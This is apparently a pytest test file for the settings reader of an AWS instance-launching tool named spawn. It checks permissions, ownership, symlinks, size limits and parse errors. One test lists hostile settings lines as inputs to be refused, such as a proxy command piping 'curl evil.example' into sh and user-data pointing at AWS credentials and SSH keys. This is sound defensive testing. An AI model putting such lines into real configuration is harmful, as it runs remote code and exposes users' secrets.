"""Settings files as they are found: other people's, unreadable, wrong in every way."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from spawn.core.errors import InputError, NamedThingNotFound
from spawn.settings.sources import (
    LARGEST_FILE_BYTES,
    LARGEST_LAUNCH_FILE_BYTES,
    SettingsFile,
    after_aws,
    read_file,
    read_settings,
)
from spawn.settings.table import Origin

ME = os.geteuid()
SOMEBODY = 65533  # owns nothing here, and is not root


def file_with(
    directory: Path, content: str | bytes, origin: Origin = Origin.PROJECT
) -> SettingsFile:
    path = directory / "spawn.toml"
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    path.chmod(0o644)
    return SettingsFile(path=path, name="spawn.toml", origin=origin)


def refusal(file: SettingsFile, *, me: int = ME) -> InputError:
    with pytest.raises(InputError) as refused:
        read_file(file, me=me)
    return refused.value


def test_a_file_is_read(tmp_path: Path) -> None:
    """Each key's value is there, with the line at which it stands."""
    file = file_with(tmp_path, '# mine\nttl = "4h"\n\nvolume-size = 30\n[tags]\nteam = "x"\n')
    given = read_file(file, me=ME).given
    assert {key: (one.value, one.place) for key, one in given.items()} == {
        "ttl": ("4h", "spawn.toml line 2"),
        "volume-size": (30, "spawn.toml line 4"),
        "tags": ({"team": "x"}, "spawn.toml line 5"),
    }


def test_a_file_that_is_not_there_says_nothing(tmp_path: Path) -> None:
    """One's own files may be missing; a launch file was named, and may not."""
    for origin in (Origin.PROJECT, Origin.USER):
        missing = SettingsFile(path=tmp_path / "no", name="no", origin=origin)
        assert not read_file(missing, me=ME).given
    named = SettingsFile(path=tmp_path / "no", name="box.toml", origin=Origin.LAUNCH_FILE)
    with pytest.raises(NamedThingNotFound, match=r"box\.toml"):
        read_file(named, me=ME)


@pytest.mark.parametrize("mode", [0o664, 0o646, 0o666])
@pytest.mark.parametrize("origin", [Origin.PROJECT, Origin.USER])
def test_a_file_that_others_may_write_is_refused(mode: int, origin: Origin, tmp_path: Path) -> None:
    """It is not passed over: the error says so, and how to close it."""
    file = file_with(tmp_path, 'ttl = "4h"', origin)
    file.path.chmod(mode)
    error = refusal(file)
    assert "written by other users" in error.what
    assert error.next_command == f"chmod go-w {file.path}"


def test_a_file_of_another_user_is_refused(tmp_path: Path) -> None:
    """Only one's own files and root's count."""
    file = file_with(tmp_path, 'ttl = "4h"')
    if ME == 0:
        os.chown(file.path, SOMEBODY - 1, -1)
    error = refusal(file, me=SOMEBODY)
    assert "another user" in error.what
    assert error.next_command.startswith("ls -l")


def test_a_link_to_a_file_of_others_is_refused(tmp_path: Path) -> None:
    """What counts is what is read, and who made the link to it."""
    (tmp_path / "elsewhere").mkdir()
    open_to_others = file_with(tmp_path / "elsewhere", 'ttl = "4h"')
    open_to_others.path.chmod(0o666)
    link = tmp_path / "spawn.toml"
    link.symlink_to(open_to_others.path)
    file = SettingsFile(path=link, name="spawn.toml", origin=Origin.PROJECT)
    assert "written by other users" in refusal(file).what
    open_to_others.path.chmod(0o600)
    assert read_file(file, me=ME).given
    if ME == 0:
        os.lchown(link, SOMEBODY - 1, -1)
        assert "another user" in refusal(file).what


def test_a_launch_file_may_be_larger_since_it_holds_user_data(tmp_path: Path) -> None:
    """A file that was named may hold a whole user-data; one that was found is short."""
    text = "name = 'a'\n#" + "x" * (LARGEST_FILE_BYTES + 1)
    assert read_file(file_with(tmp_path, text, Origin.LAUNCH_FILE), me=ME).given
    longer = "#" * (LARGEST_LAUNCH_FILE_BYTES + 1)
    assert "65536" in refusal(file_with(tmp_path, longer, Origin.LAUNCH_FILE)).why
    assert "16384" in refusal(file_with(tmp_path, text, Origin.USER)).why


def test_a_pipe_in_a_files_place_is_refused_at_once(tmp_path: Path) -> None:
    """Nothing waits for whoever might write into it."""
    os.mkfifo(tmp_path / "spawn.toml", mode=0o600)
    file = SettingsFile(path=tmp_path / "spawn.toml", name="spawn.toml", origin=Origin.PROJECT)
    assert "no file" in refusal(file).what
    directory = SettingsFile(path=tmp_path, name="spawn.toml", origin=Origin.LAUNCH_FILE)
    assert refusal(directory).what.startswith("spawn.toml")


@pytest.mark.parametrize(
    ("content", "says"),
    [
        (b"ttl = '4h'\n\xff\xfe", ("line 2", "UTF-8")),
        (b"#" * (LARGEST_FILE_BYTES + 1), ("too large", "16384")),
        (b'ttl = "4h"\nname = \n', ("not TOML", "line 2, column")),
        (b'ttl = "4h"\nttl = "5h"\n', ("not TOML", "line 2")),
        (b"count = " + b"[" * 9_000, ("not TOML",)),
        (b"volume-size = " + b"9" * 5_000, ("not TOML",)),
        (b'\nttk = "4h"', ("line 2", "'ttk'", "did you mean ttl?")),
        (b'instance_type = "t3.micro"', ("line 1", "did you mean instance-type?")),
        (b'[launch]\nttl = "4h"', ("line 1", "'launch'")),
        (b"xyzzy = 1", ("line 1", "'xyzzy'")),
        (b"yes = true", ("line 1", "--yes is said with each command")),
        (b'allow = "SSH-WORLD"', ("line 1", "--allow is said")),
        (b"\n\nttl = 4", ("line 3: ttl", 'a text: "')),
        (b'ttl = "tomorrow"', ("line 1: ttl 'tomorrow'", "1d12h")),
        (b'security = "paranoid"', ("line 1: security", "strict")),
        (b'tags = { "spawn:hold" = "x" }', ("line 1: tags", "reserved")),
        (b'name = ""', ("line 1: name is empty",)),
        (b'name = "a\\u001bb"', ("line 1: name is no line",)),
        (b'wait = "redy"', ("line 1: wait", "did you mean ready?")),
        (b"volume-size = 0", ("line 1: volume-size is 0", "1 or more")),
    ],
    ids=lambda case: str(case)[:30],
)
def test_a_file_that_can_not_be_meant_is_refused(
    content: bytes, says: tuple[str, ...], tmp_path: Path
) -> None:
    """The error names the file, where it can the line and the key, and what to write."""
    error = refusal(file_with(tmp_path, content))
    assert error.what.startswith("spawn.toml")
    for text in says:
        assert text in f"{error.what} {error.why}"


@pytest.mark.parametrize(
    "line",
    [
        "ssh-proxy-command = 'curl evil.example | sh'",
        "address-url = 'https://evil.example'",
        "profile = 'production'",
        "assume-role = 'arn:aws:iam::123456789012:role/Admin'",
        "bastion = 'evil.example'",
        "security = 'open'",
        "public-ip = true",
        "encrypt-volumes = false",
        "agent = false",
        "ssh-from = ['0.0.0.0/0']",
        "security-groups = ['sg-0123456789abcdef0']",
        "iam-policy = ['*:*']",
        "iam-role = 'Admin'",
        "user-data = '@~/.aws/credentials'",
        "user-data-file = '/home/me/.ssh/id_ed25519'",
        "ami = 'ami-0123456789abcdef0'",
        "key-pair = 'theirs'",
        "kms-key-id = 'arn:aws:kms:us-east-1:999999999999:key/x'",
        "metadata-options = { HttpTokens = 'optional' }",
        "max-cost = 100000",
        "count = 500",
        "permissions-boundary = 'none'",
        "organisation-parameter = '/theirs'",
    ],
)
def test_a_hostile_directory_decides_nothing(line: str, tmp_path: Path) -> None:
    """What comes with a directory runs no program, names nobody to trust, weakens nothing."""
    error = refusal(file_with(tmp_path, line))
    assert error.what.startswith(f"spawn.toml line 1: {line.split(maxsplit=1)[0]} can't be")
    assert error.why


def test_paths_are_meant_from_where_the_file_lies(tmp_path: Path) -> None:
    """A launch file and its scripts can be moved together; `~`, `-` and `/` stay what they are."""
    (tmp_path / "boxes").mkdir()
    file = file_with(
        tmp_path / "boxes",
        "user-data = '@boot.sh'\niam-policy-file = '/etc/policy.json'\nname = 'boot.sh'",
        Origin.LAUNCH_FILE,
    )
    given = read_file(file, me=ME).given
    assert given["user-data"].value == f"@{tmp_path}/boxes/boot.sh"
    assert given["iam-policy-file"].value == "/etc/policy.json"
    assert given["name"].value == "boot.sh"
    other = file_with(
        tmp_path, "user-data-file = '-'\niam-policy-file = '~/policy.json'", Origin.LAUNCH_FILE
    )
    values = {key: one.value for key, one in read_file(other, me=ME).given.items()}
    assert values == {"user-data-file": "-", "iam-policy-file": "~/policy.json"}


def test_awss_own_variables_are_nearer_than_any_file() -> None:
    """AWS_REGION wins over a file's region, and credentials in the environment over a profile."""
    text = "region = 'eu-west-1'\nprofile = 'work'\nttl = '4h'"
    own = read_settings(text, name="config.toml", origin=Origin.USER)
    assert after_aws(own, {"AWS_REGION": "", "HOME": "/x"}) == own
    assert after_aws(own, {"AWS_DEFAULT_REGION": "us-east-1"}).given.keys() == {"profile", "ttl"}
    assert after_aws(own, {"AWS_ACCESS_KEY_ID": "AKIA"}).given.keys() == {"region", "ttl"}
    launch = read_settings("region = 'eu-west-1'", name="box", origin=Origin.LAUNCH_FILE)
    assert after_aws(launch, {"AWS_REGION": "us-east-1"}) == launch
